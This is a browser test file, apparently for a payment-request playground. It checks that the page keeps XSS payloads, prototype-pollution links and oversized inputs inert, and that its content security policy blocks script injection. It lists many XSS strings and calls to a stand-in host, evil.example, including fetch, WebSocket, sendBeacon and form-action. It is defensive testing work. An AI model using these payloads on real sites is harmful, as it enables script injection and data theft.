/** The built playground against hostile requests, links and clipboards, in a browser. */

import assert from "node:assert/strict";
import { test } from "node:test";
import { pathToFileURL } from "node:url";
import { deflateRawSync } from "node:zlib";

import { sumOf } from "./blocks.js";
import { keys, middleOf, paste, press, retype, settle, write } from "./person.js";
import { BUILT, ONLY_CHROMIUM, server, visit } from "./visit.js";

const MIB = 1 << 20;
const text = (page, selector) => page.$eval(selector, (element) => element.textContent);
const written = async (page) => JSON.parse(await page.evaluate(() => sessionStorage.getItem("fintoc-preflight"))).text;
const fragment = (json) => `#${deflateRawSync(json).toString("base64url")}`;
const link = (json) => server.url + fragment(json);
const linkTo = (state) => link(JSON.stringify(state));

// Markup

/** Names and values, each of which runs a script if it is put into a page as markup. */
const MARKUP = [
  "<img src=x onerror=hacked()>",
  "<script>hacked()</script>",
  "<svg onload=hacked()>",
  "<iframe srcdoc='<script>parent.hacked()</script>'>",
  "\"><script>hacked()</script><a title=\"",
  "'><img src=x onerror=hacked()><a title='",
  "</code></summary></details><img src=x onerror=hacked()>",
  "</textarea><script>hacked()</script>",
  "</template><img src=x onerror=hacked()>",
  "javascript:hacked()",
  "data:text/html,<script>hacked()</script>",
  "{{constructor.constructor('hacked()')()}}",
  "${hacked()}",
  "[x](javascript:hacked())",
  "<style>*{display:none}</style>",
  "<base href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<form action=//evil.example><input name=amount>",
];

/** Returns a request with each text as a name and as a value of items, and one after the other, from `first` on, elsewhere. */
function requestFrom(first) {
  let next = first;
  const markup = () => MARKUP[next++ % MARKUP.length];
  const names = () => Object.fromEntries(MARKUP.map((name) => [name, markup()]));
  return {
    ...names(),
    amount: markup(),
    currency: markup(),
    flow: markup(),
    customer_email: markup(),
    success_url: markup(),
    cancel_url: markup(),
    expires_at: markup(),
    payment_method_types: MARKUP,
    customer_data: { name: markup(), email: markup(), tax_id: { type: "cl_rut", value: markup() }, [markup()]: markup() },
    line_items: MARKUP.map((each) => ({ quantity: each, price_data: { currency: each, product_data: { name: each }, [each]: 1 } })),
    metadata: Object.fromEntries(MARKUP.map((name) => [name, [name]])),
    ui_mode: "Hosted",
    save_payment_method: "Enabled",
  };
}

/** What markup could have brought into the page; also into the shadow root of the editor. */
const foreign = (page) =>
  page.evaluate(() => {
    const roots = [document, document.querySelector("#editor").shadowRoot];
    const own = (element) => element.matches("body > script, head > script[src='main.js'], head > meta, head > link, header img, #form");
    const all = roots.flatMap((root) => [...root.querySelectorAll("script, img, svg, iframe, base, meta, link, object, embed, form, style")]);
    const found = all.filter((element) => !own(element) && !element.closest("dialog > form, .cm-editor svg")).map(({ outerHTML }) => outerHTML);
    const handled = roots.flatMap((root) => [...root.querySelectorAll("*")]).filter((element) =>
      [...element.attributes].some(({ name, value }) => name.startsWith("on") || /^\s*(?:javascript|data):/i.test(element.href ?? "") || (name === "srcdoc" && value)),
    );
    return [...found, ...handled.map(({ outerHTML }) => outerHTML)];
  });

for (const first of [0, 6, 12]) {
  test(`markup in every name and value stays text, from the ${first + 1}th on`, () =>
    visit(
      async (page) => {
        const asked = [];
        page.on("request", (request) => asked.push(request.url()));
        page.on("dialog", (dialog) => asked.push(dialog.message()));
        await page.evaluate(() => {
          globalThis.hacked = () => (globalThis.isHacked = true);
        });
        assert.match(await text(page, "#verdict"), /^Invalid /);
        await page.$$eval("#violations details", (all) => all.forEach((details) => (details.open = true)));
        const shown = await text(page, "#violations");
        assert.ok(MARKUP.filter((markup) => shown.includes(markup)).length > MARKUP.length / 2, "names are shown as they are");
        await press(page, "#form [type=submit]");
        await keys(page, "F8");
        const mark = await page.waitForSelector("#editor >>> .cm-lintRange");
        await page.mouse.move(...(await middleOf(page, mark)));
        await page.waitForSelector("#editor >>> .cm-tooltip");
        assert.deepEqual(await foreign(page), []);
        // The tooltip is above the buttons.
        await page.focus("#show-code");
        await keys(page, "Enter");
        for (const language of ["node", "python", "rust", "issue", "curl"]) {
          await press(page, `#code label:has([value="${language}"])`);
          await page.waitForFunction(() => document.querySelector("#code-text").textContent !== "");
          assert.deepEqual(await foreign(page), [], language);
        }
        await keys(page, "Escape");
        await retype(page, "[name=customer_email]", MARKUP[first]);
        await press(page, "#options > summary");
        await press(page, "#levels");
        await page.type("#rule-search", MARKUP[first]);
        assert.deepEqual(await foreign(page), [], "after typing");
        await press(page, "dialog[open] .primary");
        await press(page, "#apply-all");
        assert.deepEqual(await foreign(page), [], "after suggestions were applied");
        assert.equal(await page.evaluate(() => globalThis.isHacked), undefined);
        assert.deepEqual(asked.filter((url) => url !== `${server.url}icon.svg`), []);
        assert.ok(page.url().startsWith(server.url));
      },
      { address: linkTo({ text: JSON.stringify(requestFrom(first), null, 2) }) },
    ));
}

// The content security policy

/** Ways to make a script or markup of a text, or to reach another machine, by the directive that refuses them. */
const ATTACKS = {
  "require-trusted-types-for": {
    innerHTML: () => void (document.createElement("p").innerHTML = "<b>"),
    outerHTML: () => void (document.querySelector("h1").outerHTML = "<i>"),
    insertAdjacentHTML: () => document.body.insertAdjacentHTML("beforeend", "<b>"),
    "document.write": () => document.write("<b>"),
    DOMParser: () => void new DOMParser().parseFromString("<b>", "text/html"),
    createContextualFragment: () => void document.createRange().createContextualFragment("<b>"),
    srcdoc: () => void (document.createElement("iframe").srcdoc = "<b>"),
    setHTMLUnsafe: () => document.createElement("p").setHTMLUnsafe("<b>"),
    "the text of a script": () => void (document.createElement("script").text = "1"),
    "the address of a script": () => void (document.createElement("script").src = "https://evil.example/x.js"),
    "a timer with a text": () => void setTimeout("1"),
    "an attribute for clicks": () => document.body.setAttribute("onclick", "1"),
    // Later, as what a debugger evaluates itself is excepted.
    eval: () => void setTimeout(() => globalThis.eval("1")),
    Function: () => void setTimeout(() => new Function("1")),
  },
  "trusted-types": { "a policy for markup": () => void globalThis.trustedTypes.createPolicy("default", { createHTML: (html) => html }) },
  "connect-src": {
    "fetch from elsewhere": () => void fetch("https://evil.example/").catch(() => {}),
    "fetch from here": () => void fetch("main.js").catch(() => {}),
    "a socket": () => void new WebSocket("wss://evil.example/"),
    "a beacon": () => void navigator.sendBeacon("https://evil.example/", "x"),
  },
  "img-src": { "an image from elsewhere": () => void (new Image().src = "https://evil.example/x.png") },
  "frame-src": { "a frame": () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" })) },
  "style-src-elem": { "a style": () => document.body.append(Object.assign(document.createElement("style"), { textContent: "p{}" })) },
  "style-src-attr": { "a style of an element": () => document.body.setAttribute("style", "color: red") },
  "base-uri": { "a base": () => document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" })) },
  "form-action": { "a form": () => document.body.appendChild(Object.assign(document.createElement("form"), { action: "https://evil.example/" })).submit() },
};

/** Waits until the refusals so far are reported: causes one itself, after what the page has put off. */
const settleRefusals = () =>
  new Promise((resolve) => {
    addEventListener("securitypolicyviolation", ({ blockedURI }) => blockedURI.includes("last.example") && resolve(undefined));
    setTimeout(() => setTimeout(() => (new Image().src = "https://last.example/")));
  });

/**
 * Waits until the refusal of a directive is reported, at most a minute: what the browser's own process refuses, such as
 * the address of a form, is reported after what the page's process refuses, however late it was asked for.
 */
const awaitRefusal = async (directive) => {
  for (let turn = 0; turn < 1200 && !globalThis.refused.includes(directive); turn += 1) await new Promise((resolve) => setTimeout(resolve, 50));
  return globalThis.refused.includes(directive);
};

for (const file of ["index.html", "rules.html", "rules.es.html"]) {
  for (const from of ["the server", "disk"]) {
    test(`the policy of ${file} from ${from} refuses scripts, markup and connections`, ONLY_CHROMIUM, () =>
      visit(
        async (page) => {
          await page.evaluate(() => {
            globalThis.refused = [];
            addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => blockedURI.includes("last.example") || globalThis.refused.push(effectiveDirective));
          });
          for (const [directive, attacks] of Object.entries(ATTACKS)) {
            for (const [name, attack] of Object.entries(attacks)) {
              await page.evaluate(() => (globalThis.refused.length = 0));
              await page.evaluate(attack).catch(() => {});
              await page.evaluate(settleRefusals);
              assert.ok(await page.evaluate(awaitRefusal, directive), `${name}: ${await page.evaluate(() => globalThis.refused)}`);
            }
          }
        },
        { address: from === "disk" ? `${pathToFileURL(BUILT)}/${file}` : server.url + file, ready: "body", expected: /./ },
      ));
  }
}

// Links and names

/** Fragments that are no state, or one with wrong members. */
const LINKS = {
  "no base64": "#%%%",
  "broken base64": "#A",
  "an escape that ends early": "#%E0%A4%A",
  "no DEFLATE": "#AAAA",
  "too long": `#${"A".repeat(70_000)}`,
  "no JSON": fragment("{"),
  "a list": fragment("[1]"),
  "a text that is none": fragment('{"text":{"length":1}}'),
  "20 million line breaks": fragment(JSON.stringify({ text: "\n".repeat(10_000_000) })),
};

test("a link that is made by hand opens the page with its first example, and later changes nothing", () =>
  visit(async (page) => {
    const usual = await text(page, "#verdict");
    const [name] = Object.keys(LINKS);
    await visit(async (other) => assert.equal(await text(other, "#verdict"), usual, name), { address: server.url + LINKS[name] });
    for (const [name, hash] of Object.entries(LINKS)) {
      await page.evaluate((hash) => void (location.hash = hash), hash);
      await settle(page);
      assert.equal(await text(page, "#verdict"), usual, name);
    }
  }));

test("a link with a time, levels or names that the core refuses opens the page with its request", async () => {
  const address = link(
    '{"text":"{\\"amount\\":1,\\"__proto__\\":{\\"polluted\\":1}}","now":"+275760-09-13T00:00:00Z","levels":{"json-syntax":"allow","__proto__":"allow"},"locale":"__proto__","__proto__":{"polluted":1}}',
  );
  await visit(
    async (page) => {
      assert.match(await text(page, "#verdict"), /^Invalid /);
      assert.equal(await page.$eval("#now", ({ value }) => value), "");
      await retype(page, "[name=customer_email]", "ana@example.com");
      assert.equal(await written(page), '{\n  "amount": 1,\n  "customer_email": "ana@example.com",\n  "__proto__": {\n    "polluted": 1\n  }\n}');
      await page.focus("#now");
      assert.equal(await page.evaluate(() => ({}).polluted), undefined);
    },
    { address },
  );
});

test("names that objects have are names of fields in every pane", () =>
  visit(async (page) => {
    const names = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__", "valueOf"];
    const members = names.map((name) => `"${name}":{"${name}":1}`).join(",");
    await write(page, `{${members},"amount":1,"currency":"CLP","ui_mode":"embedded","customer_data":{${members}},"metadata":{${members}},"line_items":[{${members}}]}`);
    const places = await page.$$eval("#violations code.place", (all) => all.map(({ title }) => title));
    for (const name of names) assert.ok(places.includes(name) && places.includes(`metadata.${name}`), name);
    await retype(page, "[name=amount]", "2");
    const request = JSON.parse(await written(page));
    assert.equal(request.amount, 2);
    for (const name of names) {
      assert.deepEqual(Object.getOwnPropertyDescriptor(request, name)?.value && Object.keys(Object.getOwnPropertyDescriptor(request, name).value), [name]);
    }
    await press(page, 'label:has([name="flow"][value="setup"])');
    assert.ok(Object.hasOwn(JSON.parse(await written(page)), "__proto__"));
    assert.equal(await page.evaluate(() => Object.keys(Object.prototype).length + Number(({}).amount === 1)), 0);
  }));

// Work

/** Returns `before`, as many elements as fit into 1 MiB, and `after`. */
const filled = (before, element, after) => before + Array(Math.floor((MIB - before.length - after.length) / (element.length + 1))).fill(element).join(",") + after;

/** Requests of 1 MiB. */
const LARGE = {
  "items without members": filled('{"line_items":[', "{}", "]}"),
  "items with a suggestion each": filled('{"line_items":[', '{"price_data":{"currency":"clp"}}', "]}"),
  "one text": `{"amount":"${"x".repeat(MIB - 20)}"}`,
  "nested lists": filled(`{"metadata":${"[".repeat(120)}`, "0", `${"]".repeat(120)}}`),
  "a list without an end": filled('{"line_items":[', "{}", "]"),
  "unknown names": `{${Array.from({ length: 70_000 }, (_, index) => `"n${index}":"clp"`).join(",")}}`,
  "line breaks": `{"amount":1${"\n".repeat(MIB - 20)}}`,
  "nested deeper than is read": `{"a":${"[".repeat(MIB / 2 - 10)}${"]".repeat(MIB / 2 - 10)}}`,
};

/**
 * What one act may take of the main thread, in all of its tasks: blocks of JavaScript that are run, and characters and
 * bytes that built-in functions parse, write and convert, the texts that the core validates among them. The largest
 * were 20 million and 6 MiB when this was written.
 */
const MAX_BLOCKS = 24e6;
const MAX_UNITS = 7 * MIB;

/** Counts what built-in functions are given. */
function watch() {
  globalThis.units = 0;
  const count = (object, name, sizeOf) => {
    const original = object[name];
    object[name] = function (...args) {
      const result = original.apply(this, args);
      globalThis.units += sizeOf(args[0], result) || 0;
      return result;
    };
  };
  const length = (value) => value?.length ?? value?.byteLength;
  count(JSON, "parse", length);
  count(JSON, "stringify", (_, text) => length(text));
  count(TextEncoder.prototype, "encode", length);
  count(TextEncoder.prototype, "encodeInto", length);
  count(TextDecoder.prototype, "decode", length);
  count(Storage.prototype, "setItem", () => 0);
}

for (const [name, body] of Object.entries(LARGE)) {
  test(`the work of each act on a request of 1 MiB is bounded: ${name}`, ONLY_CHROMIUM, () => {
    let profiler;
    const prepare = async (page) => {
      await page.evaluateOnNewDocument(watch);
      profiler = await page.createCDPSession();
      await profiler.send("Profiler.enable");
      await profiler.send("Profiler.startPreciseCoverage", { callCount: true, detailed: true });
    };
    return visit(
      async (page) => {
        const take = async () => sumOf((await profiler.send("Profiler.takePreciseCoverage")).result, /main\.js$/);
        const within = async (what, act) => {
          await take();
          await page.evaluate(() => (globalThis.units = 0));
          await act();
          await settle(page);
          const [blocks, units] = [await take(), await page.evaluate(() => globalThis.units)];
          if (process.env.SHOW) console.log(`${name}, ${what}: ${blocks} blocks, ${(units / MIB).toFixed(1)} MiB`);
          assert.ok(blocks > 0 && blocks <= MAX_BLOCKS, `${what}: ${blocks} blocks`);
          assert.ok(units <= MAX_UNITS, `${what}: ${units} characters and bytes`);
        };
        await press(page, "#editor >>> .cm-content");
        await keys(page, "Control+KeyA");
        await page.evaluate((body) => navigator.clipboard.writeText(body), body);
        await within("paste", () => keys(page, "Control+KeyV", { commands: ["Paste"] }));
        assert.match(await text(page, "#verdict"), /^Invalid /);
        assert.match(await text(page, "#unreadable"), /too long for the form/);
        await within("a key", () => page.keyboard.type(" "));
        await within("the version", () => press(page, 'label:has([name="version"][value="v1"])'));
        await within("F8", () => keys(page, "F8"));
        await within("formatting", () => press(page, "#format"));
        assert.match(await text(page, "#toast"), /too long/);
        await within("the code", () => press(page, "#show-code"));
        assert.match(await text(page, "#code-message"), /too long/);
        await keys(page, "Escape");
        if (await page.$("#violations .apply")) await within("a suggestion", () => press(page, "#violations .apply"));
        await within("undoing", () => keys(page, "Control+KeyZ"));
        const elements = await page.evaluate(() => [document, document.querySelector("#editor").shadowRoot].map((root) => root.querySelectorAll("*").length));
        assert.ok(elements[0] < 8000 && elements[1] < 3000, `${elements} elements`);
      },
      { prepare },
    );
  });
}
